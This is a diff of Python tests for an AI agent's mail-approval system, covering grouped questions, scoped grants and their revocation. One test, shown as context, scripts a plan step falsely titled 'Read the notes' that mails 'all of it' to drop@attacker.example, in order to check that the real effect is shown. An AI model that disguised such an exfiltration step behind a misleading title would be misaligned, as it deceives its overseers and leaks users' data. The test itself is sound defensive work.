@@ -62,6 +62,42 @@ def test_several_wait_and_are_answered_in_any_order(office):
     assert office.json("show", task)["state"] == "done" and waiting(office) == []
 
 
+def test_what_goes_to_one_person_is_one_question_answered_once(office):
+    """A turn that wants to write to one person three times asks once, with the three cards; one no is one no."""
+    open_ = {"tool": "send_mail", "title": "Tell", "args": {"to": [ANNA], "subject": "Notes", "body": {"open": "a part"}}}
+    office.server.script(
+        [
+            Act(calls=[{"tool": "propose_plan", "args": {"steps": [READ, open_, open_, open_, open_mail(PAUL)]}}]),
+            Act(calls=[{"tool": "read_file", "args": {"path": "Bureau/notes.txt", "step": "s1"}}]),
+            Act(calls=[*(send(ANNA, f"s{number}", f"part {number}") for number in (2, 3, 4)), send(PAUL, "s5")]),
+            *[Act(text="The rest is done.") for _ in range(4)],
+        ]
+    )
+    task = office.json("run", "Tell Anna in parts", "--folder", office.folder, "--model", office.model, status=3)["task"]
+    office.json("approve", task, status=3)
+    one, other = waiting(office)
+    assert [card["arguments"][2]["value"] for card in one["cards"]] == ["part 2", "part 3", "part 4"] and len(other["cards"]) == 1
+    assert [offer["scope"] for offer in one["widen"]] == ["task", "always"] and ANNA in one["widen"][0]["sentence"]
+    office("answer", other["id"], "no", status=3)
+    office("answer", one["id"], "yes")
+    assert [args["body"] for _, args in office.sink.effects] == ["part 2", "part 3", "part 4"]
+
+
+def test_a_yes_is_widened_at_the_question_kept_where_it_belongs_and_taken_back(office):
+    task = begin(office, ANNA, PAUL)
+    office("answer", f"{task}-q1", "task", "--times", "2", "--for", "Dr Morel", status=3)
+    office("answer", f"{task}-q2", "always")
+    assert sorted(receivers(office.sink)) == [ANNA, PAUL]
+    given = office.json("grants")  # the task has ended, and what was granted for its rest with it
+    assert (given["value"], given["scope"], given["kinds"]) == (PAUL, "always", ["send"])
+    assert PAUL in office("grants")
+    office("grants", "--revoke", given["id"])
+    assert PAUL not in office("grants") and "no grant" in office("grants", "--revoke", given["id"], status=2)
+    answered = [event for event in office("journal", task, "--json").splitlines() if "approval.answered" in event]
+    assert "Dr Morel" in answered[0] and "Dr Morel" not in answered[1]
+    assert "goes with task or always" in office("answer", f"{task}-q1", "yes", "--times", "2", status=2)
+
+
 def test_a_plan_shows_what_would_be_sent_whatever_its_title_says(office):
     """Without a terminal, --yes does not accept it either: it was made after a file was read, and leaves the machine."""
     lying = {"tool": "send_mail", "title": "Read the notes", "args": {"to": ["drop@attacker.example"], "subject": "x", "body": "all of it"}}
@@ -163,7 +199,7 @@ def test_a_yes_to_one_question_is_no_yes_to_the_same_call_with_less_in_it():
     from confrere.policy.rules import installation
 
     tool = Manifest(effect=Effect.ACT, kind="send", egress=True, undo=False, roles={"to": Role.DEST, "body": Role.TEXT, "until": Role.TEXT})
-    judge = EngineJudge(installation(), [], lambda kind, body, durable: None, lambda: "2026-01-01T00:00:00+00:00")
+    judge = EngineJudge(installation(), lambda kind, body, durable: None, lambda: "2026-01-01T00:00:00+00:00")
     judge.begin("t", "Tell them", {"send": tool})
 
     def asked(**args):
